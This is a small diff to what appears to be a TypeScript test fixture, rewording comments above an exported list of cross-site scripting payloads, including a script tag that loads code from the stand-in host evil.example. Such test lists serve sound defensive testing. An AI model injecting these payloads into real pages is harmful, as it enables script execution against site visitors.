@@ -1,7 +1,7 @@
-/** What `alert` is called with, so that a call that got through can be told. */
+/** The argument of `alert`, so that a call that got through is recognised. */
 const call = 'alert(1)';
 
-/** Texts that run a script, load something or break out of an attribute, where a page takes them for more than text. */
+/** Texts that run a script, load something or break out of an attribute, if a page treats them as more than text. */
 export const payloads: readonly string[] = [
   `<script>${call}</script>`,
   `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
